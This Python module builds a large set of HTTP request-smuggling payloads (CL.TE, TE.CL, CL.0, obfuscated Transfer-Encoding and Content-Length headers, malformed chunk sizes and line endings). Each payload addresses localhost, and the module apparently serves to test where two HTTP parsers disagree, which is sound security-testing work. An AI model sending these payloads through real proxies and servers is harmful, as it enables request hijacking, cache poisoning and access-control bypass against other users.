"""Requests whose end two parsers may see at different places.

A payload has an outer request, which is meant to be seen, and a hidden one inside what one parser takes for the outer
one's body. Source: RFC 9112, section 11.2; the names (CL.TE: length in front, chunks behind) are PortSwigger's."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

_HOST = b"Host: localhost\r\n"


@dataclass(frozen=True)
class Payload:
    name: str
    data: bytes


def payloads(outer: str, hidden: str) -> Iterator[Payload]:
    """Every variant, with the paths of its two requests made from `outer` and `hidden` and the variant's number."""
    number = 0
    for make in (_lengths_and_chunks, _hidden_encodings, _lengths, _line_ends, _chunk_sizes, _targets, _fields):
        for name, text in make():
            data = text.replace(b"/outer", f"/{outer}-{number}x".encode()).replace(b"/hidden", f"/{hidden}-{number}x".encode())
            yield Payload(name, _measured(data))
            number += 1


_WHOLE = b"GET /hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"
_OPEN = b"GET /hidden HTTP/1.1\r\nHost: localhost\r\nX-Swallow: "
"""Whatever comes next on the connection becomes part of this request."""
_HIDDEN = {"whole": _WHOLE, "open": _OPEN}

_BODY, _CHUNK, _LINE = b"<body>", b"<chunk>", b"<line>"
"""Lengths filled in at the end: of the whole body, of the chunk's data, of the chunk's first line."""


def _measured(data: bytes) -> bytes:
    """Fills in lengths, now that the paths have theirs."""
    head, separator, body = data.partition(b"\r\n\r\n")
    chunk = b""
    if b"<data>" in body:
        before, rest = body.split(b"<data>", 1)
        chunk, after = rest.split(b"</data>", 1)
        body = before + chunk + after
    body = body.replace(_CHUNK, b"%x" % len(chunk))
    line = body.partition(b"\n")[0] + b"\n"
    head = head.replace(_BODY, b"%d" % len(body)).replace(_LINE, b"%d" % len(line))
    return head + separator + body


def _request(fields: bytes, body: bytes, method: bytes = b"POST", version: bytes = b"HTTP/1.1") -> bytes:
    return method + b" /outer " + version + b"\r\n" + _HOST + fields + b"\r\n\r\n" + body


def _length_in_front(encoding: bytes, hidden: bytes) -> bytes:
    return _request(b"Content-Length: <body>\r\n" + encoding, b"0\r\n\r\n" + hidden)


def _chunks_in_front(encoding: bytes, hidden: bytes) -> bytes:
    return _request(b"Content-Length: <line>\r\n" + encoding, b"<chunk>\r\n<data>" + hidden + b"</data>\r\n0\r\n\r\n")


def _lengths_and_chunks() -> Iterator[tuple[str, bytes]]:
    chunked = b"Transfer-Encoding: chunked"
    for kind, hidden in _HIDDEN.items():
        yield f"CL.TE, {kind}", _length_in_front(chunked, hidden)
        yield f"TE.CL, {kind}", _chunks_in_front(chunked, hidden)
        yield f"TE before CL, {kind}", _request(chunked + b"\r\nContent-Length: <body>", b"0\r\n\r\n" + hidden)
        yield f"CL.0, POST, {kind}", _request(b"Content-Length: <body>", hidden)
        yield f"CL.0, GET, {kind}", _request(b"Content-Length: <body>", hidden, method=b"GET")
        yield f"CL.0, HEAD, {kind}", _request(b"Content-Length: <body>", hidden, method=b"HEAD")
        yield f"CL.0, OPTIONS, {kind}", _request(b"Content-Length: <body>", hidden, method=b"OPTIONS")
        yield f"TE.0, GET, {kind}", _request(chunked, b"<chunk>\r\n<data>" + hidden + b"</data>\r\n0\r\n\r\n", method=b"GET")
        yield f"chunks in HTTP/1.0, {kind}", _request(chunked, b"0\r\n\r\n" + hidden, version=b"HTTP/1.0")
        yield f"both in HTTP/1.0, {kind}", _request(
            b"Connection: keep-alive\r\nContent-Length: <body>\r\n" + chunked, b"0\r\n\r\n" + hidden, version=b"HTTP/1.0"
        )
        yield f"no framing, POST, {kind}", _request(b"X: y", hidden)
        yield f"0.CL, {kind}", _request(b"Content-Length: 0\r\nContent-Length: <body>", hidden)


_ENCODINGS = [
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\n\rTransfer-Encoding: chunked",
    b"Transfer-Encoding\r\n : chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: chun\r\n ked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding: \xc2\xa0chunked",
    b"\xffTransfer-Encoding: chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: \r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
]


def _hidden_encodings() -> Iterator[tuple[str, bytes]]:
    for encoding in _ENCODINGS:
        yield f"TE.TE {encoding!r}, length in front", _length_in_front(encoding, _OPEN)
        yield f"TE.TE {encoding!r}, chunks in front", _chunks_in_front(encoding, _OPEN)
        yield f"TE.TE {encoding!r}, no length", _request(encoding, b"0\r\n\r\n" + _WHOLE)


_LENGTHS = [
    b"Content-Length: <body>\r\nContent-Length: 0",
    b"Content-Length: <body>\r\nContent-Length: <body>",
    b"Content-Length: <body>, <body>",
    b"Content-Length: 0, <body>",
    b"Content-Length: <body>, 0",
    b"Content-Length: +<body>",
    b"Content-Length: -0",
    b"Content-Length: -<body>",
    b"Content-Length: 0<body>",
    b"Content-Length: 0x<body>",
    b"Content-Length: <body> 0",
    b"Content-Length: <body>.0",
    b"Content-Length: 1e1",
    b'Content-Length: "<body>"',
    b"Content-Length : <body>",
    b"Content-Length\t: <body>",
    b"X: y\r\n Content-Length: <body>",
    b"X: y\nContent-Length: <body>",
    b"Content-Length:\r\n <body>",
    b"Content-Length: <body>\x0b",
    b"Content-Length: <body>\x00",
    b"Content-Length: \x0c<body>",
    b"Content-Length\x00: <body>",
    b"Content_Length: <body>",
    b"Content-Length: ",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 99999999999999999999999999",
    b"Content-Length: \xd9\xa3",
    b"Connection: Content-Length\r\nContent-Length: <body>",
    b"Connection: close, Content-Length\r\nContent-Length: <body>",
    b"Expect: 100-continue\r\nContent-Length: <body>",
    b"Expect: 100-continue, x\r\nContent-Length: <body>",
    b"Expect: y 100-continue\r\nContent-Length: <body>",
]


def _lengths() -> Iterator[tuple[str, bytes]]:
    for length in _LENGTHS:
        for method in (b"POST", b"GET"):
            yield f"{length!r}, {method.decode()}", _request(length, _OPEN, method=method)


def _line_ends() -> Iterator[tuple[str, bytes]]:
    plain = b"POST /outer HTTP/1.1\nHost: localhost\nContent-Length: 0\n\n"
    yield "bare LF everywhere", plain
    yield "bare LF everywhere, then a request", plain + _WHOLE
    yield "LF CRLF ends the head", b"POST /outer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\n\r\n" + _WHOLE
    yield "CRLF LF ends the head", b"POST /outer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\n" + _WHOLE
    yield "LF LF in a value", _request(b"X: y\n\n" + _WHOLE, b"")
    yield "CR CR in a value", _request(b"X: y\r\r" + _WHOLE, b"")
    yield "bare CR ends a field", b"POST /outer HTTP/1.1\r\nHost: localhost\rContent-Length: 0\r\n\r\n" + _WHOLE
    yield "empty lines first", b"\r\n\r\n" + _request(b"Content-Length: 0", b"")
    yield "bare LF first", b"\n" + _request(b"Content-Length: 0", b"")
    yield "chunk lines end in LF", _request(b"Transfer-Encoding: chunked", b"1\nZ\n0\n\n" + _WHOLE)
    yield "chunk's first line ends in LF", _request(b"Transfer-Encoding: chunked", b"1\nZ\r\n0\r\n\r\n" + _WHOLE)
    yield "last chunk ends in LF", _request(b"Transfer-Encoding: chunked", b"1\r\nZ\r\n0\n\r\n" + _WHOLE)
    yield "chunk's data ends in LF", _request(b"Transfer-Encoding: chunked", b"1\r\nZ\n0\r\n\r\n" + _WHOLE)
    yield "chunk lines end in CR", _request(b"Transfer-Encoding: chunked", b"1\rZ\r0\r\r" + _WHOLE)


_SIZES = [
    b"<chunk>;ext",
    b"<chunk>;ext=1",
    b'<chunk>;ext="\r\n0\r\n\r\n"',
    b"<chunk>;ext=\n0\n\n",
    b"<chunk>;\r0\r\r",
    b"<chunk>;ext=" + b"a" * 20_000,
    b"<chunk> ",
    b"<chunk> ;ext",
    b" <chunk>",
    b"<chunk>\t",
    b"0x<chunk>",
    b"+<chunk>",
    b"-<chunk>",
    b"0" * 40 + b"<chunk>",
    b"<chunk>,0",
    b"<chunk>\x00",
    b"<chunk>\x0b",
    b"<chunk>g",
    b"<chunk>.0",
    b"1000000000000000<chunk>",
    b"ffffffffffffffff",
    b"ffffffffffffffff0",
    b"fffffffffffffffffffffffe",
    b"8000000000000000",
    b"7fffffffffffffff",
    b"",
    b";ext",
]


def _chunk_sizes() -> Iterator[tuple[str, bytes]]:
    chunked = b"Transfer-Encoding: chunked"
    for size in _SIZES:
        body = size + b"\r\n<data>" + _WHOLE + b"</data>\r\n0\r\n\r\n"
        yield f"chunk size {size[:40]!r}", _request(chunked, body)
    for size in (b"0;ext", b"00", b"0 ", b" 0", b"0x0", b"-0", b"+0", b"0\x00", b'0;ext="\n"', b"0;\n", b"0;\r"):
        yield f"last chunk's size {size!r}", _request(chunked, size + b"\r\n\r\n" + _WHOLE)
    yield "a chunk longer than its size", _request(chunked, b"1\r\nZZZ\r\n0\r\n\r\n" + _WHOLE)
    yield "two bytes that are no CRLF after a chunk", _request(chunked, b"1\r\nZxx0\r\n\r\n" + _WHOLE)
    yield "a length as a trailer", _request(chunked, b"0\r\nContent-Length: 100\r\n\r\n" + _WHOLE)
    yield "an encoding as a trailer", _request(chunked, b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + _WHOLE)
    yield "a request as a trailer", _request(chunked, b"0\r\n" + _WHOLE)
    yield "a folded trailer", _request(chunked, b"0\r\nX: y\r\n " + _WHOLE)
    yield "an open last chunk", _request(chunked, b"0\r\n")
    yield "no last chunk", _request(chunked, b"<chunk>\r\n<data>" + _WHOLE + b"</data>\r\n")


def _targets() -> Iterator[tuple[str, bytes]]:
    rest = b"Host: localhost\r\n\r\n"
    yield "absolute form", b"GET http://localhost/outer HTTP/1.1\r\n" + rest
    yield "absolute form of another host", b"GET http://example.invalid/outer HTTP/1.1\r\n" + rest
    yield "absolute form and a hidden request", b"GET http://localhost/outer HTTP/1.1\r\nContent-Length: <body>\r\n" + rest + _WHOLE
    yield "a space in the target", b"GET /outer HTTP/1.1 /hidden HTTP/1.1\r\n" + rest
    yield "a request line in the target", b"GET /outer%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0aGET%20/hidden HTTP/1.1\r\n" + rest
    yield "a bare CR in the target", b"GET /outer\rX HTTP/1.1\r\n" + rest
    yield "a NUL in the target", b"GET /outer\x00/hidden HTTP/1.1\r\n" + rest
    yield "a fragment in the target", b"GET /outer#/hidden HTTP/1.1\r\n" + rest
    yield "a tab in the request line", b"GET\t/outer\tHTTP/1.1\r\n" + rest
    yield "two spaces in the request line", b"GET  /outer  HTTP/1.1\r\n" + rest
    yield "bytes over 127 in the target", b"GET /outer\xff\xfe HTTP/1.1\r\n" + rest
    yield "HTTP/0.9", b"GET /outer\r\n" + _WHOLE
    yield "HTTP/0.9 with fields", b"GET /outer\r\n" + rest + _WHOLE
    yield "HTTP/1.2", b"GET /outer HTTP/1.2\r\n" + rest
    yield "HTTP/2.0", b"GET /outer HTTP/2.0\r\n" + rest
    yield "HTTP/1.10", b"GET /outer HTTP/1.10\r\n" + rest
    yield "http/1.1", b"GET /outer http/1.1\r\n" + rest
    yield "HTTP/2's preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _WHOLE
    yield "CONNECT", b"CONNECT localhost:80 HTTP/1.1\r\n" + rest + _WHOLE
    yield "asterisk form", b"OPTIONS * HTTP/1.1\r\n" + rest + _WHOLE


def _fields() -> Iterator[tuple[str, bytes]]:
    def get(fields: bytes, body: bytes = b"") -> bytes:
        return b"GET /outer HTTP/1.1\r\n" + fields + b"\r\n\r\n" + body

    yield "two hosts", get(b"Host: localhost\r\nHost: other")
    yield "no host", get(b"X: y")
    yield "an empty host", get(b"Host: ")
    yield "a space before the first field", get(b" Host: localhost\r\nHost: localhost")
    yield "a field without a name", get(b"Host: localhost\r\n: y")
    yield "a field without a colon", get(b"Host: localhost\r\nX")
    yield "a folded field", get(b"Host: localhost\r\nX: y\r\n\tz")
    yield "a NUL in a value", get(b"Host: localhost\r\nX: y\x00z")
    yield "an upgrade to h2c", get(
        b"Host: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", _WHOLE
    )
    yield "an upgrade to h2c with little said", get(b"Host: localhost\r\nConnection: Upgrade\r\nUpgrade: h2c", _WHOLE)
    websocket = b"Host: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
    yield "an upgrade to WebSocket", get(websocket + b"\r\nSec-WebSocket-Version: 13", _WHOLE)
    yield "an upgrade to WebSocket of another version", get(websocket + b"\r\nSec-WebSocket-Version: 1777", _WHOLE)
    yield "an upgrade with a body", get(websocket + b"\r\nContent-Length: <body>", _WHOLE)
    yield "two requests", get(b"Host: localhost", _WHOLE)
    yield "a request cut short", b"GET /outer HTTP/1.1\r\nHost: loc"
    yield "a body cut short", _request(b"Content-Length: 1000", _WHOLE)
